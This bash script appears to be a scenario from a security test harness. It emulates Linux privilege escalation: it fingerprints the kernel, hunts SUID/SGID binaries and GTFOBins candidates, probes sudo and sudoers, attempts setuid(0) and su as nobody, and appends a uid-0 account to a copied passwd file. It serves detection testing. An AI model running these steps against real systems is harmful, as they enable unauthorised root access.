#!/usr/bin/env bash
# Family: privilege_escalation — the local enumeration and attempts of LinPEAS / linux-exploit-
# suggester style tooling and manual privesc (MITRE T1548.001 setuid, T1548.003 sudo, T1068):
# kernel/OS fingerprinting, SUID/SGID and file-capability hunting, sudo probing, reading sudoers,
# setuid(0) attempts from an unprivileged user (which fail), user-namespace "root", su attempts,
# and the "append a uid-0 user to a writable passwd" trick (on a copy in the work dir).
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init privilege_escalation

do_setup() {
    need_pkg sudo libcap2-bin
    rm -rf "${W:?}/etc"
    mkdir -p "$W/etc"
    cp /etc/passwd "$W/etc/passwd"   # the "writable passwd" target is a copy
    chmod 755 "$W"                   # nobody must be able to run things from here
}

# as_nobody CMD...: run CMD as the unprivileged user nobody (what a web-shell foothold has).
as_nobody() {
    setpriv --reuid=65534 --regid=65534 --clear-groups -- "$@"
}

do_run() {
    cd "$W"
    # 1. fingerprint: kernel, distro, who am I (exploit-suggester input)
    id; uname -a; cat /proc/version; cat /etc/os-release | upto 4
    cat /proc/sys/kernel/unprivileged_userns_clone 2>/dev/null || true
    cat /proc/sys/kernel/yama/ptrace_scope 2>/dev/null || true
    grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status
    capsh --print 2>/dev/null | head -n 3 || true

    # 2. SUID/SGID binaries (find / -perm -4000), file capabilities (getcap -r)
    timeout 15 find / -xdev \( -perm -4000 -o -perm -2000 \) -type f 2>/dev/null >"$W/suid.txt" || true
    timeout 10 getcap -r /usr /bin /sbin /opt 2>/dev/null >"$W/caps.txt" || true
    # GTFOBins-style check of what we found
    while read -r b; do
        case "${b##*/}" in find|vim|bash|python*|perl|nmap|less|env|cp|tar) echo "GTFOBin candidate: $b" ;; esac
    done <"$W/suid.txt"
    wc -l "$W/suid.txt" "$W/caps.txt"

    # 3. sudo: non-interactive probes, then read the policy if readable
    sudo -n true 2>/dev/null && echo "sudo without password" || true
    sudo -n -l 2>/dev/null | head -n 10 || true
    as_nobody sudo -n true 2>/dev/null || echo "nobody: sudo denied"
    as_nobody sudo -n -l 2>/dev/null || true
    [[ -r /etc/sudoers ]] && cat /etc/sudoers >/dev/null
    ls -la /etc/sudoers.d 2>/dev/null || true
    cat /etc/sudoers.d/* 2>/dev/null >/dev/null || true

    # 4. writable things that lead to root, from the foothold user's view
    timeout 10 setpriv --reuid=65534 --regid=65534 --clear-groups -- \
        find /etc /usr/local /opt /var/spool -xdev -writable 2>/dev/null | head -n 20 || true
    ls -la /etc/passwd /etc/shadow /etc/crontab /var/run/docker.sock 2>/dev/null || true
    jitter 300

    # 5. setuid(0) attempts from the unprivileged user: all fail with EPERM
    as_nobody "$PY" -c '
import os
for f, a in ((os.setuid, (0,)), (os.seteuid, (0,)), (os.setresuid, (0, 0, 0)), (os.setgid, (0,))):
    try:
        f(*a); print(f.__name__, "succeeded?!")
    except PermissionError as e:
        print(f.__name__, "->", e)
' || true
    runuser -u nobody -- perl -e '$< = 0; $> = 0; print "perl setuid: uid=$< euid=$>\n"' || true
    # su to root without a password (fails after PAM's delay)
    timeout 6 setpriv --reuid=65534 --regid=65534 --clear-groups -- su -c id root </dev/null 2>&1 | head -n 2 || true
    # "root" inside an unprivileged user namespace (a common first step of kernel exploits)
    as_nobody unshare -Ur sh -c 'id; cat /proc/self/uid_map' 2>&1 || true

    # 6. writable-passwd trick: append a uid-0 account with a known hash (on the copy)
    local hash
    hash=$(openssl passwd -1 -salt "$(tr -dc a-z0-9 </dev/urandom | head -c 8)" "p4ss$RANDOM")
    echo "r00t:$hash:0:0:root:/root:/bin/bash" >>"$W/etc/passwd"
    tail -n 1 "$W/etc/passwd"
    grep -c ':0:0:' "$W/etc/passwd"
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
